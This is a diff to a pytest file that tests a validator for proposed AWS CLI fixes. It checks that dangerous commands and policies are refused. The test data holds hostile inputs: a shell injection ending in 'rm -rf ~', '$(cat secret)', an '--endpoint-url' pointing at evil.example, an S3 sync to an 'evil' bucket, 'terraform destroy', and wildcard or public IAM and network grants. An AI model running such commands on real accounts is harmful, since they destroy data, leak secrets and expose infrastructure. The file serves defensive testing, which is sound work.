@@ -107,7 +107,7 @@ def test_what_was_built_is_what_would_be_accepted_from_anybody():
                 PolicyName="new",
                 PolicyDocument='{"Statement": [{"Action": ["s3:Get*", "*"], "Resource": "*", "Condition": {}, "Effect": "Allow"}]}',
             ),
-            "allow every action",
+            "allow more than single actions",
         ),
         (
             fix("DetachRolePolicy", service="iam", region="", RoleName="open", PolicyArn="arn:aws:iam::aws:policy/x"),
@@ -180,10 +180,7 @@ def test_an_object_in_a_bucket_that_was_seen_is_known():
     [
         "aws s3api put-public-access-block --bucket orders-data --public-access-block-configuration BlockPublicAcls=true",
         "aws ec2 revoke-security-group-ingress --group-id sg-0123456789abcdef0 --protocol tcp --port 22 --cidr 0.0.0.0/0",
-        "aws s3 cp s3://orders-data/a ./a",
-        "aws logs tail /aws/lambda/x --region eu-west-1",
         "aws configservice start-configuration-recorder --configuration-recorder-name default",
-        "aws rds wait db-instance-available --db-instance-identifier x",
         "aws ec2 create-image --instance-id orders-data --name y --no-reboot",
     ],
 )
@@ -201,6 +198,13 @@ def test_commands_the_cli_has_are_accepted(command):
         ("aws s3api delete-bucket-policy --bucket orders-data; rm -rf ~", "more than one command"),
         ("aws s3api delete-bucket-policy --bucket $(cat secret)", "more than one command"),
         ("aws s3api delete-bucket-policy --bucket 'orders-data", "quotes"),
+        ("aws s3 rb s3://ghost --force", "cannot be looked up"),
+        ("aws logs tail /aws/lambda/ghost", "cannot be looked up"),
+        ("aws s3api delete-bucket-policy --bucket orders-data --endpoint-url https://evil.example", "somewhere else"),
+        (
+            "aws iam put-role-policy --role-name orders-writer --policy-name x --policy-document file:///tmp/x",
+            "somewhere else",
+        ),
         ("curl https://example.com", "no command of the AWS CLI"),
         ("aws kms disable-key --key-id arn:aws:kms:eu-west-1:123456789012:key/other", "was not seen"),
         ("aws s3api put-bucket-acl --bucket orders-data --acl public-read", "everybody"),
@@ -255,3 +259,82 @@ def test_addresses_nobody_recorded_are_left_out_and_those_of_awss_own_pages_stay
 )
 def test_words_that_only_name_a_tool_stay(text):
     assert without_commands(text, known=known) == (text, "")
+
+
+ALLOW = {"Effect": "Allow", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::orders-data/*"}
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"Principal": {"AWS": ["123456789012", "*"]}},
+        {"Principal": "*"},
+        {"NotPrincipal": {"AWS": "123456789012"}},
+        {"Principal": {"Federated": "accounts.google.com"}},
+        {"Action": "*:*"},
+        {"Action": ["s3:Get?bject"]},
+        {"Action": ["iam:P*", "s3:GetObject"]},
+        {"NotAction": "s3:DeleteObject"},
+    ],
+)
+@pytest.mark.parametrize("escaped", [False, True])
+def test_a_policy_is_read_as_what_it_says_however_it_is_written(change, escaped):
+    policy = json.dumps({"Statement": [{**ALLOW, **change}]})
+    shown = offered(
+        fix("PutBucketPolicy", Bucket="orders-data", Policy=policy.replace("*", "\\u002a") if escaped else policy),
+        known=known,
+    )
+    assert shown.command == ""
+    assert shown.refused
+
+
+@pytest.mark.parametrize(
+    "proposed",
+    [
+        fix("DeletePublicAccessBlock", Bucket="orders-data"),
+        fix(
+            "PutPublicAccessBlock",
+            Bucket="orders-data",
+            PublicAccessBlockConfiguration={"BlockPublicAcls": False, "IgnorePublicAcls": True},
+        ),
+        fix("PutBucketAcl", Bucket="orders-data", ACL="public-read-write"),
+        fix("CreateFunctionUrlConfig", service="lambda", FunctionName="orders-data", AuthType="NONE"),
+        fix("ModifyDBInstance", service="rds", DBInstanceIdentifier="orders-data", PubliclyAccessible=True),
+        fix("AddUserToGroup", service="iam", region="", GroupName="orders-writer", UserName="orders-writer"),
+        fix("GetSecretValue", service="secretsmanager", SecretId="orders-data"),
+        fix("CreateKeyPair", service="ec2", KeyName="orders-data"),
+        fix("UpdateService", service="ecs", cluster="ghost", service_="x"),
+        fix(
+            "AttachRolePolicy",
+            service="iam",
+            region="",
+            RoleName="orders-writer",
+            PolicyArn="arn:aws:iam::aws:policy/SecretsManagerReadWrite",
+        ),
+        fix(
+            "AuthorizeSecurityGroupIngress",
+            service="ec2",
+            GroupId="sg-0123456789abcdef0",
+            IpPermissions=[{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/1"}, {"CidrIp": "128.0.0.0/1"}]}],
+        ),
+    ],
+)
+def test_what_opens_allows_or_hands_out_too_much_is_never_offered(proposed):
+    assert offered(proposed, known=known).command == ""
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Run aws  iam create-access-key --user-name x",
+        "AWS iam create-access-key --user-name x",
+        "/usr/local/bin/aws iam create-access-key --user-name x",
+        "aws --region=us-east-1 iam create-access-key --user-name x",
+        "Run aws s3 sync s3://ghost s3://evil",
+        "terraform destroy -auto-approve",
+    ],
+)
+def test_a_command_is_found_however_it_is_written(text):
+    shown, refused = without_commands(text, known=known)
+    assert "(a command was left out)" in shown
+    assert refused
